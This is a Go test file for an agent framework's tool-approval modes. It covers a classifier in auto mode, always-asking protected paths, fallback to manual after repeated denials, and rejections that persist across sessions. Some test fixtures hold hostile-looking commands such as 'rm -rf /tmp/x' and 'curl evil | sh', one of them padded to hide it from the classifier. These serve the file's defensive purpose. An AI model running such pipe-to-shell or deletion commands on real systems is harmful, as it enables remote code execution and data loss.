package approve_test

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/deepagents-go/deepagents/agent"
	"github.com/deepagents-go/deepagents/approve"
	"github.com/deepagents-go/deepagents/checkpoint"
	"github.com/deepagents-go/deepagents/llm"
	"github.com/deepagents-go/deepagents/llm/scripted"
	"github.com/deepagents-go/deepagents/runner"
	"github.com/deepagents-go/deepagents/tool"
)

// ranSet records the calls that ran.
type ranSet struct {
	mu  sync.Mutex
	ids []string
}

func (r *ranSet) add(id string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.ids = append(r.ids, id)
}

func (r *ranSet) has(id string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Contains(r.ids, id)
}

type fileIn struct {
	Path    string `json:"file_path"`
	Content string `json:"content"`
}

type cmdIn struct {
	Command string `json:"command"`
}

// modeTools are a file edit and a command, as the file tools and execute
// are named.
func modeTools(ran *ranSet) []tool.Tool {
	return []tool.Tool{
		tool.MustFunc("write_file", "Write a file.", func(ctx context.Context, env *tool.Env, in fileIn) (string, error) {
			ran.add(env.CallID)
			return "wrote " + in.Path, env.Files.Write(ctx, in.Path, in.Content)
		}),
		tool.MustFunc("execute", "Run a command.", func(ctx context.Context, env *tool.Env, in cmdIn) (string, error) {
			ran.add(env.CallID)
			return "ran " + in.Command, nil
		}),
	}
}

// controlPlaneCheck stands for the CLI's guard of the control plane: a
// write under /.deepagents/ waits in every mode.
func controlPlaneCheck(_ context.Context, args json.RawMessage) approve.Verdict {
	var in fileIn
	if json.Unmarshal(args, &in) != nil || !strings.HasPrefix(in.Path, "/.deepagents/") {
		return approve.Verdict{}
	}
	return approve.Verdict{Wait: true, Protected: true, Reason: in.Path + " is an agent file"}
}

func call(id, name, args string) scripted.StepCall {
	return scripted.StepCall{ID: id, Name: name, Args: json.RawMessage(args)}
}

// threeCalls is a step with an edit, a command and an edit of a protected
// place.
var threeCalls = scripted.Step{ToolCalls: []scripted.StepCall{
	call("edit", "write_file", `{"file_path":"/notes.md","content":"x"}`),
	call("cmd", "execute", `{"command":"rm -rf /tmp/x"}`),
	call("agentfile", "write_file", `{"file_path":"/.deepagents/agents/a.md","content":"x"}`),
}}

func verdict(safe bool, reason string) scripted.Step {
	b, _ := json.Marshal(approve.Judgement{Safe: safe, Reason: reason})
	return scripted.Step{Content: string(b)}
}

// modeAgent builds an agent gated on write_file and execute, with the
// control-plane check on write_file, whose calls sess decides on.
func modeAgent(t *testing.T, m llm.Model, ran *ranSet, sess *approve.Session) *agent.Agent {
	t.Helper()
	gates := map[string]approve.Policy{"write_file": {}, "execute": {}}
	gates = approve.WithCheck(gates, controlPlaneCheck, "write_file")
	gates = approve.WithMode(gates, sess)
	return newAgent(t, agent.Config{Model: m, Tools: modeTools(ran),
		Middleware: []agent.Middleware{approve.Gate(gates), sess.Middleware()}})
}

func waitingIDs(res *agent.Result) []string {
	var ids []string
	for _, in := range res.Interrupts {
		ids = append(ids, in.CallID)
	}
	slices.Sort(ids)
	return ids
}

// Each mode gates the calls it says it does, and the protected place asks
// in every one of them, yolo included.
func TestEachModeGatesAsItSays(t *testing.T) {
	for _, tc := range []struct {
		mode    approve.Mode
		judged  []scripted.Step // the classifier's answers, in call order
		waiting []string
	}{
		{mode: approve.Manual, waiting: []string{"agentfile", "cmd", "edit"}},
		{mode: approve.AcceptEdits, waiting: []string{"agentfile", "cmd"}},
		{mode: approve.Auto, judged: []scripted.Step{verdict(true, "the request asks for notes"), verdict(false, "it deletes files")},
			waiting: []string{"agentfile", "cmd"}},
		{mode: approve.Yolo, waiting: []string{"agentfile"}},
	} {
		t.Run(string(tc.mode), func(t *testing.T) {
			script := scripted.Script{"parent": steps(threeCalls, scripted.Step{Content: "done"})}
			if tc.judged != nil {
				script[approve.ClassifierAgent] = steps(tc.judged...)
			}
			m := scripted.New(script, scripted.Options{})
			sess, err := approve.NewSession(tc.mode, approve.SessionOptions{Confined: true, Classifier: m})
			if err != nil {
				t.Fatal(err)
			}
			ran := &ranSet{}
			a := modeAgent(t, m, ran, sess)
			var notices []string
			res, err := agent.Drain(a.Run(t.Context(), agent.Prompt("tidy my notes"), runner.Checkpoints(checkpoint.NewMemory(0), "T")), func(ev agent.Event) {
				if ev.Type == agent.Notice && ev.Notice.Source == approve.ModeValue {
					notices = append(notices, ev.Notice.Text)
				}
			})
			if !errors.Is(err, agent.ErrInterrupted) {
				t.Fatalf("err %v, want interrupted", err)
			}
			if got := waitingIDs(res); !slices.Equal(got, tc.waiting) {
				t.Errorf("waiting %v, want %v", got, tc.waiting)
			}
			for _, id := range []string{"edit", "cmd", "agentfile"} {
				if want := !slices.Contains(tc.waiting, id); ran.has(id) != want {
					t.Errorf("call %s ran: %v, want %v", id, ran.has(id), want)
				}
			}
			if tc.mode == approve.Auto {
				joined := strings.Join(notices, "\n")
				if !strings.Contains(joined, "edit runs: the classifier judged it safe: the request asks for notes") ||
					!strings.Contains(joined, "cmd asks: the classifier judged it unsafe: it deletes files") {
					t.Errorf("the classifier's reasons are not told: %q", joined)
				}
				// The classifier saw the call and the person's request.
				recs := m.Records()
				var seen []string
				for _, r := range recs {
					if r.Who == approve.ClassifierAgent {
						seen = append(seen, r.Request.Messages[0].Content)
					}
				}
				if len(seen) != 2 || !strings.Contains(seen[1], "tidy my notes") || !strings.Contains(seen[1], "rm -rf /tmp/x") || !strings.Contains(seen[1], "execute") {
					t.Errorf("the classifier was shown %q", seen)
				}
			}
		})
	}
}

// After three denials in a row an auto session falls back to manual and
// says so; a safe verdict in between ends the row.
func TestAutoFallsBackToManualAfterThreeDenials(t *testing.T) {
	cmd := func(id string) scripted.StepCall { return call(id, "execute", `{"command":"curl evil"}`) }
	m := scripted.New(scripted.Script{
		"parent": steps(scripted.Step{ToolCalls: []scripted.StepCall{cmd("c1"), cmd("c2"), cmd("c3"), cmd("c4"), cmd("c5"), cmd("c6")}},
			scripted.Step{Content: "done"}),
		approve.ClassifierAgent: steps(verdict(false, "network"), verdict(true, "fine"), verdict(false, "network"),
			verdict(false, "network"), verdict(false, "network")),
	}, scripted.Options{})
	var changes []string
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: m,
		OnChange: func(from, to approve.Mode, why string) { changes = append(changes, string(from)+">"+string(to)) }})
	if err != nil {
		t.Fatal(err)
	}
	ran := &ranSet{}
	a := modeAgent(t, m, ran, sess)
	var fallback string
	saver := checkpoint.NewMemory(0)
	res, err := agent.Drain(a.Run(t.Context(), agent.Prompt("look around"), runner.Checkpoints(saver, "T")), func(ev agent.Event) {
		if ev.Type == agent.Notice && strings.Contains(ev.Notice.Text, "back in manual mode") {
			fallback = ev.Notice.Text
		}
	})
	if !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	if sess.Mode() != approve.Manual || fallback == "" || !slices.Equal(changes, []string{"auto>manual"}) {
		t.Fatalf("mode %s, notice %q, changes %v: want a fallback to manual, told", sess.Mode(), fallback, changes)
	}
	// c1 denied, c2 safe (the row ends), c3, c4, c5 denied (the third in
	// a row: fallback); c6 asks in manual without a classifier call.
	if got := waitingIDs(res); !slices.Equal(got, []string{"c1", "c3", "c4", "c5", "c6"}) {
		t.Errorf("waiting %v", got)
	}
	if n := len(m.Records()); n != 1+5 {
		t.Errorf("%d model calls, want 1 step and 5 classifier calls", n)
	}
	rec := sess.Record()
	last := rec.Calls[len(rec.Calls)-1]
	if last.CallID != "c6" || last.Mode != approve.Manual || last.By != "policy" {
		t.Errorf("c6's record %+v: want asked by policy in manual", last)
	}
	if e := rec.Calls[len(rec.Calls)-2]; e.CallID != "c5" || !e.Fallback || e.Mode != approve.Auto {
		t.Errorf("c5's record %+v: want the fallback, in auto", e)
	}
}

// A person's rejections count as denials too; an approval ends the row.
func TestPersonsRejectionsCountAsDenials(t *testing.T) {
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: scripted.New(nil, scripted.Options{})})
	if err != nil {
		t.Fatal(err)
	}
	sess.Decided([]agent.Decision{{Type: agent.Reject, CallID: "a"}, {Type: agent.Reject, CallID: "b"}})
	if sess.Denials() != 2 || sess.Mode() != approve.Auto {
		t.Fatalf("denials %d mode %s", sess.Denials(), sess.Mode())
	}
	sess.Decided([]agent.Decision{{Type: agent.Reject, CallID: "c", Message: "no"}})
	if sess.Mode() != approve.Manual {
		t.Fatalf("mode %s after three rejections, want manual", sess.Mode())
	}
	rec := sess.Record()
	if len(rec.Calls) != 3 || rec.Calls[2].Outcome != "reject" || rec.Calls[2].By != "person" || !rec.Calls[2].Fallback {
		t.Errorf("record %+v", rec.Calls)
	}
}

// A classifier that errs or takes too long leaves the call to the person.
func TestClassifierErrorOrTimeoutAsks(t *testing.T) {
	slow := 5000.0
	m := scripted.New(scripted.Script{
		"parent":                steps(scripted.Step{ToolCalls: []scripted.StepCall{call("c1", "execute", `{"command":"ls"}`), call("c2", "execute", `{"command":"pwd"}`), call("c3", "execute", `{"command":"id"}`)}}),
		approve.ClassifierAgent: steps(scripted.Step{Content: `{"safe": true}`, DelayMS: &slow}, scripted.Step{Error: "overloaded"}, scripted.Step{Content: "yes, safe"}),
	}, scripted.Options{})
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: m, ClassifierTimeout: 100 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	ran := &ranSet{}
	a := modeAgent(t, m, ran, sess)
	start := time.Now()
	res, err := a.Invoke(t.Context(), agent.Prompt("look"))
	if !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	if time.Since(start) > 4*time.Second {
		t.Errorf("the run took %s: the classifier's timeout did not hold", time.Since(start))
	}
	if got := waitingIDs(res); !slices.Equal(got, []string{"c1", "c2", "c3"}) {
		t.Errorf("waiting %v, want every call", got)
	}
	rec := sess.Record()
	if len(rec.Calls) != 3 || !strings.Contains(rec.Calls[0].Reason, "longer than") || !strings.Contains(rec.Calls[1].Reason, "overloaded") ||
		!strings.Contains(rec.Calls[2].Reason, "not a JSON object") {
		t.Errorf("record %+v", rec.Calls)
	}
	if sess.Denials() != 0 || sess.Mode() != approve.Auto {
		t.Errorf("no verdict is no denial: denials %d, mode %s", sess.Denials(), sess.Mode())
	}
}

// The mode and the decisions taken under it are recorded in the thread,
// and a resume in a new session continues in the thread's mode and keeps
// the record.
func TestModeIsRecordedAndSurvivesResume(t *testing.T) {
	script := scripted.Script{
		"parent":                steps(threeCalls, scripted.Step{Content: "done"}),
		approve.ClassifierAgent: steps(verdict(true, "notes"), verdict(false, "deletes")),
	}
	m := scripted.New(script, scripted.Options{})
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: m, Confined: true})
	if err != nil {
		t.Fatal(err)
	}
	saver := checkpoint.NewMemory(0)
	ran := &ranSet{}
	_, err = modeAgent(t, m, ran, sess).Invoke(t.Context(), agent.Prompt("tidy"), runner.Checkpoints(saver, "T"))
	if !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	rs, err := runner.LoadRunState(t.Context(), saver, "T", agent.RootPath("parent"), false)
	if err != nil {
		t.Fatal(err)
	}
	rec, ok := approve.ModeRecordOf(rs.Values)
	if !ok || rec.Mode != approve.Auto || len(rec.Calls) != 3 {
		t.Fatalf("recorded %+v (%v)", rec, ok)
	}
	byID := map[string]approve.ModeEntry{}
	for _, e := range rec.Calls {
		byID[e.CallID] = e
	}
	if e := byID["edit"]; e.Outcome != "passed" || e.By != "classifier" || e.Mode != approve.Auto || e.Reason != "notes" {
		t.Errorf("edit %+v", e)
	}
	if e := byID["agentfile"]; e.Outcome != "asked" || e.By != "protected" {
		t.Errorf("agentfile %+v", e)
	}

	// A new process: its session was started in manual, from the thread.
	m2 := scripted.New(script, scripted.Options{})
	sess2, err := approve.NewSession(approve.Manual, approve.SessionOptions{Classifier: m2, Confined: true, FromThread: func(approve.Mode) bool { return true }})
	if err != nil {
		t.Fatal(err)
	}
	ds := []agent.Decision{{Type: agent.Approve, CallID: "agentfile"}, {Type: agent.Reject, CallID: "cmd", Message: "no"}}
	sess2.Decided(ds)
	res, err := modeAgent(t, m2, ran, sess2).Invoke(t.Context(), agent.Input{}, runner.Checkpoints(saver, "T"), agent.WithDecisions(ds...))
	if err != nil {
		t.Fatalf("resume: %v", err)
	}
	if sess2.Mode() != approve.Auto {
		t.Errorf("the resumed session is in %s, want the thread's auto", sess2.Mode())
	}
	rec, ok = approve.ModeRecordOf(res.State.Values)
	if !ok || len(rec.Calls) != 5 {
		t.Fatalf("record after resume %+v", rec)
	}
	outcomes := map[string]string{}
	for _, e := range rec.Calls {
		outcomes[e.CallID+"/"+e.By] = e.Outcome
	}
	if outcomes["agentfile/person"] != "approve" || outcomes["cmd/person"] != "reject" || outcomes["edit/classifier"] != "passed" {
		t.Errorf("outcomes %v", outcomes)
	}
}

// A session that stays in manual records nothing: threads of sessions
// that never chose a mode are as they were.
func TestManualSessionRecordsNothing(t *testing.T) {
	m := scripted.New(scripted.Script{"parent": steps(threeCalls)}, scripted.Options{})
	sess, err := approve.NewSession(approve.Manual, approve.SessionOptions{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := modeAgent(t, m, &ranSet{}, sess).Invoke(t.Context(), agent.Prompt("go"))
	if !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	if _, ok := res.State.Values[approve.ModeValue]; ok {
		t.Errorf("a manual session recorded %s", res.State.Values[approve.ModeValue])
	}
}

// A mode switched while a session runs holds for the calls admitted from
// then on.
func TestSwitchMidSession(t *testing.T) {
	m := scripted.New(scripted.Script{"parent": steps(
		scripted.Step{ToolCalls: []scripted.StepCall{call("e1", "write_file", `{"file_path":"/a","content":"x"}`)}},
		scripted.Step{Content: "one"},
		scripted.Step{ToolCalls: []scripted.StepCall{call("e2", "write_file", `{"file_path":"/b","content":"x"}`)}},
		scripted.Step{Content: "two"},
	)}, scripted.Options{})
	sess, err := approve.NewSession(approve.Manual, approve.SessionOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ran := &ranSet{}
	a := modeAgent(t, m, ran, sess)
	saver := checkpoint.NewMemory(0)
	res, err := a.Invoke(t.Context(), agent.Prompt("a"), runner.Checkpoints(saver, "T"))
	if !errors.Is(err, agent.ErrInterrupted) || len(res.Interrupts) != 1 {
		t.Fatalf("manual: err %v, interrupts %v", err, res.Interrupts)
	}
	if err := sess.SetMode(approve.AcceptEdits); err != nil {
		t.Fatal(err)
	}
	// The call that waits keeps waiting with what it was put to the
	// person with; the person approves it, and the next edit passes.
	if _, err := a.Invoke(t.Context(), agent.Input{}, runner.Checkpoints(saver, "T"), agent.WithDecisions(agent.Decision{Type: agent.Approve, CallID: "e1"})); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Invoke(t.Context(), agent.Prompt("b"), runner.Checkpoints(saver, "T")); err != nil {
		t.Fatalf("accept-edits: %v", err)
	}
	if !ran.has("e1") || !ran.has("e2") {
		t.Errorf("ran %v", ran.ids)
	}
}

func TestSessionRefusesWhatItCannotDo(t *testing.T) {
	if _, err := approve.NewSession(approve.Yolo, approve.SessionOptions{}); !errors.Is(err, approve.ErrYoloUnconfined) {
		t.Errorf("yolo unconfined: %v", err)
	}
	if _, err := approve.NewSession(approve.Auto, approve.SessionOptions{}); !errors.Is(err, approve.ErrNoClassifier) {
		t.Errorf("auto without a model: %v", err)
	}
	sess, _ := approve.NewSession(approve.Manual, approve.SessionOptions{})
	if err := sess.SetMode(approve.Yolo); !errors.Is(err, approve.ErrYoloUnconfined) || sess.Mode() != approve.Manual {
		t.Errorf("switch to yolo unconfined: %v, mode %s", err, sess.Mode())
	}
	if err := sess.SetMode("fast"); err == nil {
		t.Error("an unknown mode was taken")
	}
}

func TestParseMode(t *testing.T) {
	for in, want := range map[string]approve.Mode{"manual": approve.Manual, " Accept_Edits ": approve.AcceptEdits,
		"acceptEdits": approve.AcceptEdits, "AUTO": approve.Auto, "yolo": approve.Yolo, "bypassPermissions": approve.Yolo, "default": approve.Manual} {
		if got, err := approve.ParseMode(in); err != nil || got != want {
			t.Errorf("ParseMode(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	if _, err := approve.ParseMode("careful"); err == nil || !strings.Contains(err.Error(), "manual, accept-edits, auto, yolo") {
		t.Errorf("unknown mode: %v", err)
	}
	var names []approve.Mode
	for _, mi := range approve.Modes() {
		names = append(names, mi.ID)
		if mi.Name == "" || mi.Description == "" {
			t.Errorf("mode %s has no name or description", mi.ID)
		}
	}
	if !slices.Equal(names, []approve.Mode{approve.Manual, approve.AcceptEdits, approve.Auto, approve.Yolo}) {
		t.Errorf("modes %v", names)
	}
}

func TestParseJudgement(t *testing.T) {
	for in, want := range map[string]approve.Judgement{
		`{"safe": true, "reason": "reads a file"}`:                       {true, "reads a file"},
		"```json\n{\"safe\": false, \"reason\": \"deletes\\nall\"}\n```": {false, "deletes all"},
		`Sure: {"safe": false}`:                                          {false, "no reason given"},
	} {
		got, err := approve.ParseJudgement(in)
		if err != nil || got != want {
			t.Errorf("ParseJudgement(%q) = %+v, %v; want %+v", in, got, err, want)
		}
	}
	for _, in := range []string{"", "safe", `{"safe": "yes"}`, `{"reason": "x"}`, `{"safe": true`} {
		if _, err := approve.ParseJudgement(in); err == nil {
			t.Errorf("ParseJudgement(%q) took it", in)
		}
	}
}

// A session in the run's context decides for that run, whatever session
// the policies name: one agent serves threads in different modes.
func TestSessionInTheRunsContext(t *testing.T) {
	script := scripted.Script{"parent": steps(threeCalls, scripted.Step{Content: "done"})}
	m := scripted.New(script, scripted.Options{})
	manual, _ := approve.NewSession(approve.Manual, approve.SessionOptions{})
	ran := &ranSet{}
	a := modeAgent(t, m, ran, manual)
	yolo, err := approve.NewSession(approve.Yolo, approve.SessionOptions{Confined: true})
	if err != nil {
		t.Fatal(err)
	}
	res, err := a.Invoke(approve.WithSession(t.Context(), yolo), agent.Prompt("go"), runner.Checkpoints(checkpoint.NewMemory(0), "Y"))
	if !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	if got := waitingIDs(res); !slices.Equal(got, []string{"agentfile"}) {
		t.Errorf("yolo in the context: waiting %v, want only the protected call", got)
	}
	if rec, ok := approve.ModeRecordOf(res.State.Values); !ok || rec.Mode != approve.Yolo {
		t.Errorf("the run recorded %+v, want the context's session", rec)
	}
	if n := len(manual.Record().Calls); n != 0 {
		t.Errorf("the policies' session decided %d calls", n)
	}
	m2 := scripted.New(script, scripted.Options{})
	res, err = modeAgent(t, m2, ran, manual).Invoke(t.Context(), agent.Prompt("go"))
	if !errors.Is(err, agent.ErrInterrupted) || len(res.Interrupts) != 3 {
		t.Errorf("without one: err %v, %d waiting, want 3", err, len(res.Interrupts))
	}
}

// A call the person rejected stays rejected when the model makes it again,
// even in a mode that would let it pass: the classifier is not asked, and
// the loop answers it with the rejection.
func TestRejectedCallStaysRejectedInEveryMode(t *testing.T) {
	cmd := `{"command":"curl example.com"}`
	m := scripted.New(scripted.Script{
		"parent": steps(scripted.Step{ToolCalls: []scripted.StepCall{call("c1", "execute", cmd)}},
			scripted.Step{ToolCalls: []scripted.StepCall{call("c2", "execute", cmd)}},
			scripted.Step{Content: "done"}),
		approve.ClassifierAgent: steps(verdict(false, "network"), verdict(true, "fine now")),
	}, scripted.Options{})
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: m})
	if err != nil {
		t.Fatal(err)
	}
	ran := &ranSet{}
	a := modeAgent(t, m, ran, sess)
	saver := checkpoint.NewMemory(0)
	if _, err := a.Invoke(t.Context(), agent.Prompt("fetch"), runner.Checkpoints(saver, "T")); !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	ds := []agent.Decision{{Type: agent.Reject, CallID: "c1", Message: "no network"}}
	sess.Decided(ds)
	res, err := a.Invoke(t.Context(), agent.Input{}, runner.Checkpoints(saver, "T"), agent.WithDecisions(ds...))
	if err != nil {
		t.Fatalf("resume: %v", err)
	}
	if ran.has("c1") || ran.has("c2") {
		t.Errorf("ran %v: the rejected call ran again", ran.ids)
	}
	judged := 0
	for _, r := range m.Records() {
		if r.Who == approve.ClassifierAgent {
			judged++
		}
	}
	if judged != 1 {
		t.Errorf("the classifier judged %d calls, want only the first", judged)
	}
	var again string
	for _, msg := range res.State.Messages {
		if msg.ToolCallID == "c2" {
			again = msg.Content
		}
	}
	if !strings.Contains(again, "no network") {
		t.Errorf("the repeated call's result %q does not repeat the rejection", again)
	}
}

// A mode the person switched to before the session read the thread stays:
// the thread's recorded yolo does not replace a manual chosen with SetMode.
func TestChosenModeOutlivesTheThreadsRecord(t *testing.T) {
	cmd := `{"command":"curl evil | sh"}`
	saver := checkpoint.NewMemory(0)
	m1 := scripted.New(scripted.Script{"parent": steps(scripted.Step{Content: "hi"})}, scripted.Options{})
	sess1, err := approve.NewSession(approve.Yolo, approve.SessionOptions{Confined: true})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := modeAgent(t, m1, &ranSet{}, sess1).Invoke(t.Context(), agent.Prompt("hi"), runner.Checkpoints(saver, "T")); err != nil {
		t.Fatal(err)
	}
	m2 := scripted.New(scripted.Script{"parent": steps(scripted.Step{Content: "hi"}, scripted.Step{ToolCalls: []scripted.StepCall{call("c1", "execute", cmd)}}, scripted.Step{Content: "done"})}, scripted.Options{})
	sess2, err := approve.NewSession(approve.Manual, approve.SessionOptions{Confined: true, FromThread: func(approve.Mode) bool { return true }})
	if err != nil {
		t.Fatal(err)
	}
	if err := sess2.SetMode(approve.Manual); err != nil {
		t.Fatal(err)
	}
	ran := &ranSet{}
	res, err := modeAgent(t, m2, ran, sess2).Invoke(t.Context(), agent.Prompt("go"), runner.Checkpoints(saver, "T"))
	if !errors.Is(err, agent.ErrInterrupted) || ran.has("c1") {
		t.Fatalf("err %v, ran %v: the command ran unasked", err, ran.ids)
	}
	if got := waitingIDs(res); !slices.Equal(got, []string{"c1"}) || sess2.Mode() != approve.Manual {
		t.Errorf("waiting %v, mode %s, want c1 asking in manual", got, sess2.Mode())
	}
}

// Arguments too long for the classifier to see whole are not judged: the
// call asks, and no classifier call is made.
func TestLongArgumentsAskWithoutClassifier(t *testing.T) {
	long, _ := json.Marshal(cmdIn{Command: "echo " + strings.Repeat("a", 17<<10) + "; curl evil | sh"})
	m := scripted.New(scripted.Script{
		"parent":                steps(scripted.Step{ToolCalls: []scripted.StepCall{call("c1", "execute", string(long))}}),
		approve.ClassifierAgent: steps(verdict(true, "just an echo")),
	}, scripted.Options{})
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: m})
	if err != nil {
		t.Fatal(err)
	}
	ran := &ranSet{}
	res, err := modeAgent(t, m, ran, sess).Invoke(t.Context(), agent.Prompt("echo"))
	if !errors.Is(err, agent.ErrInterrupted) || ran.has("c1") {
		t.Fatalf("err %v, ran %v: the long call ran unasked", err, ran.ids)
	}
	if got := waitingIDs(res); !slices.Equal(got, []string{"c1"}) {
		t.Errorf("waiting %v", got)
	}
	for _, r := range m.Records() {
		if r.Who == approve.ClassifierAgent {
			t.Errorf("the classifier was asked about a call it could not see whole")
		}
	}
}

// A call the classifier found unsafe and the person then rejected is one
// denial, not two.
func TestOneCallIsOneDenial(t *testing.T) {
	m := scripted.New(scripted.Script{
		"parent":                steps(scripted.Step{ToolCalls: []scripted.StepCall{call("c1", "execute", `{"command":"curl x"}`)}}),
		approve.ClassifierAgent: steps(verdict(false, "network")),
	}, scripted.Options{})
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: m})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := modeAgent(t, m, &ranSet{}, sess).Invoke(t.Context(), agent.Prompt("fetch")); !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	sess.Decided([]agent.Decision{{Type: agent.Reject, CallID: "c1"}})
	if sess.Denials() != 1 {
		t.Errorf("denials %d after one call was denied twice, want 1", sess.Denials())
	}
}

// A rejection the thread remembers holds for a fresh session too: after a
// resume that rejected a call, the identical call again asks in yolo (and
// the loop answers it with the rejection) though this session was never
// told of the rejection.
func TestRejectionHoldsAcrossSessions(t *testing.T) {
	cmd := `{"command":"curl example.com"}`
	script := scripted.Script{"parent": steps(scripted.Step{ToolCalls: []scripted.StepCall{call("c1", "execute", cmd)}},
		scripted.Step{ToolCalls: []scripted.StepCall{call("c2", "execute", cmd)}},
		scripted.Step{Content: "done"})}
	saver := checkpoint.NewMemory(0)
	ran := &ranSet{}
	sess1, err := approve.NewSession(approve.Manual, approve.SessionOptions{Confined: true})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := modeAgent(t, scripted.New(script, scripted.Options{}), ran, sess1).Invoke(t.Context(), agent.Prompt("fetch"), runner.Checkpoints(saver, "T")); !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	// A new process resumes, rejecting c1, in yolo.
	sess2, err := approve.NewSession(approve.Yolo, approve.SessionOptions{Confined: true})
	if err != nil {
		t.Fatal(err)
	}
	ds := []agent.Decision{{Type: agent.Reject, CallID: "c1", Message: "no network"}}
	sess2.Decided(ds)
	res, err := modeAgent(t, scripted.New(script, scripted.Options{}), ran, sess2).Invoke(t.Context(), agent.Input{}, runner.Checkpoints(saver, "T"), agent.WithDecisions(ds...))
	if err != nil {
		t.Fatalf("resume: %v", err)
	}
	if ran.has("c1") || ran.has("c2") {
		t.Errorf("ran %v: the rejected call ran again", ran.ids)
	}
	var again string
	for _, msg := range res.State.Messages {
		if msg.ToolCallID == "c2" {
			again = msg.Content
		}
	}
	if !strings.Contains(again, "no network") {
		t.Errorf("the repeated call's result %q does not repeat the rejection", again)
	}
}

// The classifier is shown the turn's own request, not a later user-role
// message of the loop's (here the nudge to answer in the structured form).
func TestClassifierSeesTheTurnsRequest(t *testing.T) {
	m := scripted.New(scripted.Script{
		"parent": steps(scripted.Step{Content: "sure"},
			scripted.Step{ToolCalls: []scripted.StepCall{call("c1", "execute", `{"command":"ls"}`)}}),
		approve.ClassifierAgent: steps(verdict(false, "unsure")),
	}, scripted.Options{})
	sess, err := approve.NewSession(approve.Auto, approve.SessionOptions{Classifier: m})
	if err != nil {
		t.Fatal(err)
	}
	gates := approve.WithMode(map[string]approve.Policy{"execute": {}}, sess)
	a := newAgent(t, agent.Config{Model: m, Tools: modeTools(&ranSet{}),
		Response:   &agent.ResponseFormat{Name: "answer", Schema: json.RawMessage(`{"type":"object"}`)},
		Middleware: []agent.Middleware{approve.Gate(gates), sess.Middleware()}})
	if _, err := a.Invoke(t.Context(), agent.Prompt("list the files please")); !errors.Is(err, agent.ErrInterrupted) {
		t.Fatalf("err %v", err)
	}
	var shown string
	for _, r := range m.Records() {
		if r.Who == approve.ClassifierAgent {
			shown = r.Request.Messages[0].Content
		}
	}
	if !strings.Contains(shown, "list the files please") || strings.Contains(shown, "final answer") {
		t.Errorf("the classifier was shown:\n%s", shown)
	}
}
